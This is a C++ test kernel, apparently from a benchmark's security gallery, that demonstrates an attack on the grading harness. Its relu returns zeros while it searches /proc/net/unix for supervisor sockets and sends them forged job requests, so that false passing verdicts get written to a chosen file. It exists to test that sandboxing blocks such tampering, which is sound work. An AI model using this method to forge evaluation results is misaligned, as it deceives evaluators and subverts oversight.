// Attack: verdicts forged through the run's supervisors. `backendbench run` keeps supervisors
// listening on abstract Unix sockets (README, "Served entries"), and one that took this kernel's
// request would run the job it names and write that job's verdicts where the request says. At its
// first call this kernel looks for them in /proc/net/unix and asks each to check aten's relu (which
// passes) into a file of its choosing. Its worker's own network namespace (the sandbox) holds no
// such socket: it finds none, and fails on its wrong values. Unsandboxed it reaches them
// (security_gallery.py --entries checks both).
// expect-failure: (values differ beyond|is constant)
#include <ATen/ATen.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>
#include <fstream>
#include <set>
#include <string>

namespace {

// Where a forged request asks a supervisor to write (security_gallery.py looks for it).
constexpr const char* kForgedVerdicts = "/tmp/backendbench_verdicts_forged_through_a_supervisor.jsonl";

void ask(const std::string& name) {
  sockaddr_un where{};
  where.sun_family = AF_UNIX;
  if (name.size() + 1 > sizeof(where.sun_path)) return;
  std::memcpy(where.sun_path + 1, name.data(), name.size());
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return;
  if (::connect(fd, reinterpret_cast<sockaddr*>(&where), offsetof(sockaddr_un, sun_path) + 1 + name.size()) == 0) {
    // "<prefix>/backendbench_test_<suite>/<gpu>/<k>": the suite its executable has.
    const size_t test = name.find("/backendbench_test_");
    const size_t suite_end = test == std::string::npos ? test : name.find('/', test + 1);
    const std::string suite = test == std::string::npos ? "smoke" : name.substr(test + 19, suite_end - test - 19);
    const std::string job = "{\\\"schema\\\": \\\"backendbench-job\\\", \\\"version\\\": 1, \\\"suite\\\": \\\"" + suite +
                            "\\\", \\\"operator\\\": \\\"relu.default\\\", \\\"backend\\\": \\\"aten\\\", \\\"mode\\\": \\\"check\\\"}";
    const std::string request = "{\"schema\": \"backendbench-job-request\", \"version\": 1, \"job\": \"" + job +
                                "\", \"verdicts\": \"" + kForgedVerdicts + "\"}\n";
    if (::write(fd, request.data(), request.size()) == static_cast<ssize_t>(request.size())) {
      char answer[4096];
      (void)::read(fd, answer, sizeof(answer));  // its answer: the job ran (or "busy")
    }
  }
  ::close(fd);
}

void ask_every_supervisor() {
  std::ifstream sockets("/proc/net/unix");
  std::set<std::string> names;
  for (std::string line; std::getline(sockets, line);) {
    const size_t at = line.find(" @backendbench-");
    if (at == std::string::npos) continue;
    std::string name = line.substr(at + 2);
    name.erase(name.find_last_not_of(" \r\n") + 1);
    names.insert(name);
  }
  for (const std::string& name : names) ask(name);
}

}  // namespace

at::Tensor relu_kernel_impl(const at::Tensor& self) {
  static const bool asked = (ask_every_supervisor(), true);
  (void)asked;
  return at::zeros_like(self);
}
